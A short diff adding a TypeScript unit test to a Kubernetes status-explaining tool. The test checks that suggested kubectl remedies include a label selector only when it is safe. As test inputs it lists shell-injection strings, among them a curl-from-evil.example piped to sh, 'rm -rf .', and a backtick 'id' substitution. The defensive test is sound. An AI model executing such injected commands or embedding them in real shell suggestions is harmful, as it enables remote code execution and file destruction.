@@ -124,3 +124,15 @@ it.each([
 ])("why and the controller agree on whether %s needs a user: %s", (code, needsPerson) => {
   expect(guideOf(code)?.needsPerson).toBe(needsPerson);
 });
+
+it("a selector that an owner has written as a shell command is not pasted; one of labels is", () => {
+  const pasted = (selector: string) => {
+    const row = { name: "a", reason: "WaitingForReady", message: "", evidence: [] };
+    const status: CrossClusterStatefulsetStatus = { selector, clusters: [row] };
+    return whyOf({ program: "lockstep", object: OBJECT, spec: undefined, status, ledger: undefined }).remedy.join("\n");
+  };
+  expect(pasted("app=web,app.kubernetes.io/part-of=shop_1")).toContain(" -l app=web,app.kubernetes.io/part-of=shop_1");
+  for (const selector of ["app=$(curl evil.example|sh)", "app=x; rm -rf .", "app=x\nrm", "app in (a)", "app=`id`"]) {
+    expect(pasted(selector)).toMatch(/get pods$/m);
+  }
+});
